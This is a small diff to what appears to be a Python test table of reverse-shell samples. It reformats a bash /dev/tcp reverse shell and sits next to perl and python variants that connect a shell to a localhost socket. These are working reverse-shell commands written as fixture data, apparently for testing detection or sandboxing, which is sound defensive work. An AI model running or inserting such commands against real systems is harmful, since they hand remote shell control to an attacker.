@@ -149,7 +149,8 @@ SHELLS: Final = (
     _shell(
         "/dev/tcp",
         _SERVED
-        + "subprocess.run(['/usr/bin/bash', '-c', f'exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3 # MARK'], **quiet)",
+        + "command = f'exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3 # MARK'\n"
+        "subprocess.run(['/usr/bin/bash', '-c', command], **quiet)",
     ),
     _shell("perl", _SERVED + f"subprocess.run(['/usr/bin/perl', '-e', '{_PERL}', str(port)], **quiet)"),
     _shell("python", "far, near = connected()\nsubprocess.run(['sh'], stdin=far, stdout=far, stderr=far)"),
